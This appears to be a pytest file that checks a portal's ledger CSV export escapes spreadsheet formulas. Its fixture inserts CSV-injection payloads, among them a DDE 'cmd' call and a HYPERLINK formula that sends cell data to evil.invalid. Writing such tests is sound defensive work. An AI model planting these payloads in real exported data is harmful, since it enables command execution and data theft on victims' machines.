"""CSV output contains no cell that a spreadsheet would read as a formula.

A formula starts with one of six characters, or with one of four after spaces. The tests insert
their rows directly into the table, because the portal itself writes no such texts. Another program,
or a later version, could do so.
"""

import csv
import io
import re
import unicodedata
from typing import Final

import pytest

from portal.storage.tables import ledger
from tests.conftest import PortalFactory
from tests.fakes.databases import opened
from tests.fakes.in_process import InProcessPortal
from tests.hostile.strings import STRINGS

FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")
_CALLS: Final = (
    "cmd|' /C calc'!A0",
    '1+HYPERLINK("//evil.invalid/"&A1)',
    "SUM(1,2)",
    "",
    "1\n=1+1",
    "1\r=1+1",
    'x"\n"=1+1',
    "x,=1+1",
    "'=1",
)
HOSTILE: Final = (
    *(start + call for start in FORMULA for call in _CALLS),
    *(" =1+1", "  @SUM(1,2)", "\u200b=1+1", "\u00a0-1"),
    *("x\r=1+1", "x\n=1+1", "x\r\n=1+1", 'x"\r"=1+1'),
    *STRINGS,
)
TEXTS: Final = ("operation", "origin", "caller", "outcome")


@pytest.fixture
def filled(portal: PortalFactory) -> InProcessPortal:
    """A portal with a ledger in which every text column of every row is hostile."""
    here = portal()
    values = {"sent_at": 1_790_000_000.0, "day": "2026-09-21", "subject": "", "price": "0.30"}
    values["namespace"] = here.settings.namespace
    with opened(None, here.settings.data_dir) as database, database.engine.begin() as db:
        for text in HOSTILE:
            db.execute(ledger.insert().values(**values, **dict.fromkeys(TEXTS, text)))
    return here


def printed(portal: InProcessPortal, *words: str) -> list[list[str]]:
    done = portal.app.test_cli_runner().invoke(args=["ledger", "--csv", *words])
    assert done.exit_code == 0
    # click's ``output`` would replace each CR LF by LF.
    return list(csv.reader(io.StringIO(done.stdout_bytes.decode(), newline="")))


def formula_cells(table: list[list[str]]) -> list[str]:
    return [cell for line in table for cell in line if cell.lstrip().startswith(FORMULA)]


def escaped(text: str) -> str:
    """Return the expected cell: one visible line, with an apostrophe before a formula."""
    one_line = re.sub(r"[\r\n\t]", " ", text)
    shown = "".join(c for c in one_line if unicodedata.category(c) not in ("Cc", "Cf"))
    return "'" + shown if shown.lstrip().startswith(FORMULA) else shown


def test_ledger_csv_escapes_formulas_and_keeps_texts(filled: InProcessPortal) -> None:
    header, *rows = printed(filled)
    assert formula_cells([header, *rows]) == []
    columns = [header.index(name) for name in TEXTS]
    assert [[row[column] for column in columns] for row in rows] == [
        [escaped(text)] * len(TEXTS) for text in HOSTILE
    ]


def test_summary_csv_escapes_formulas(filled: InProcessPortal) -> None:
    table = printed(filled, "--summary")
    assert formula_cells(table) == []
    assert {line[0] for line in table[1:-1]} == set(map(escaped, HOSTILE))
    assert table[-1][:2] == ["all", str(len(HOSTILE))]
